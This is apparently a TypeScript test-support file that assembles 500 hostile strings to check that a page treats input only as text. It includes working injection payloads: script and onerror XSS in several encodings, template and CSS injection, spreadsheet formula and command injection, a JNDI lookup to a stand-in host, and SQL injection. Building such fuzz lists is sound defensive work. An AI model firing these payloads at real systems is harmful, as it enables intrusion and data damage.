import { PAYLOADS } from "../../oauth/support/payloads.ts";

/** Strings that other parts of a page could treat as more than text; the test listens for `hit()`. */
const KINDS: readonly string[] = [
  // links and URLs
  "[x](javascript:hit())",
  "![x](https://evil.example/x.png)",
  "[x]: javascript:hit()",
  "<https://evil.example>",
  "javascript:hit()//https://a.example",
  "JaVaScRiPt:hit()",
  "java\tscript:hit()",
  "\u0001javascript:hit()",
  "data:text/html,<script>hit()</script>",
  "vbscript:hit()",
  "//evil.example/x.js",
  "https://evil.example@a.example/\\..\\x",
  "mailto:a@a.example?body=<script>hit()</script>",
  "tel:+5511<img src=x onerror=hit()>",
  // templates
  "{{constructor.constructor('hit()')()}}",
  "<%= hit() %>",
  "#set($x=hit())",
  "{{#with hit}}{{this}}{{/with}}",
  `[[\${hit()}]]`,
  `\`\${hit()}\``,
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  // styles
  "</style><style>*{display:none}</style>",
  "red;background:url(https://evil.example/x)",
  "expression(hit())",
  "@import 'https://evil.example/x.css';",
  "x{}*{visibility:hidden}",
  "url('javascript:hit()')",
  // invisible and bidirectional characters
  "\u202egpj.exe\u202c",
  "\u2066\u2067\u2068<b>\u2069",
  "a\u200b\u200c\u200d\ufeffb",
  "\u200b\u200b\u200b",
  "\u00ad\u034f\u115f\u3164",
  "\u2028hit()\u2029",
  "\\u0000%00\u2400",
  "\\ud800 \\udfff \ufffd \uffff",
  `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}${"\u0301".repeat(60)}`,
  `${"Z\u0335\u0321\u0322".repeat(30)}`,
  "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>123</b>",
  // entities and encodings
  "&lt;script&gt;hit()&lt;/script&gt;",
  "&#60;img src=x onerror=hit()&#62;",
  "&amp;lt;script&amp;gt;",
  "&NewLine;&Tab;&colon;",
  "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
  "\\u003cscript\\u003ehit()",
  "%3Cscript%3Ehit()%3C/script%3E",
  // spreadsheets, JSON, the console
  '=HYPERLINK("javascript:hit()","x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|x",
  "@SUM(1+1)*hit()",
  "\t=1+1",
  '{"__proto__":{"x":1}}',
  '"}]};hit();//',
  "%c%s%n%d",
  `\${jndi:ldap://evil.example/x}`,
  "'; DROP TABLE lead; --",
  "\\",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "<!--",
  "]]>",
  // length
  "x".repeat(10_000),
  "<b>".repeat(3_000),
  `${"long ".repeat(2_000)}<img src=x onerror=hit()>`,
];

const AROUND: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => `${text} "'><img src=x onerror=hit()>`,
  (text) => `<a href="${text}">${text}</a>`,
];

const OTHERS = AROUND.flatMap((around) => KINDS.map(around));

/** 500 different strings: these, and some of the consent page's test. */
export const HOSTILE: readonly string[] = [...new Set([...OTHERS, ...PAYLOADS])].slice(0, 500);
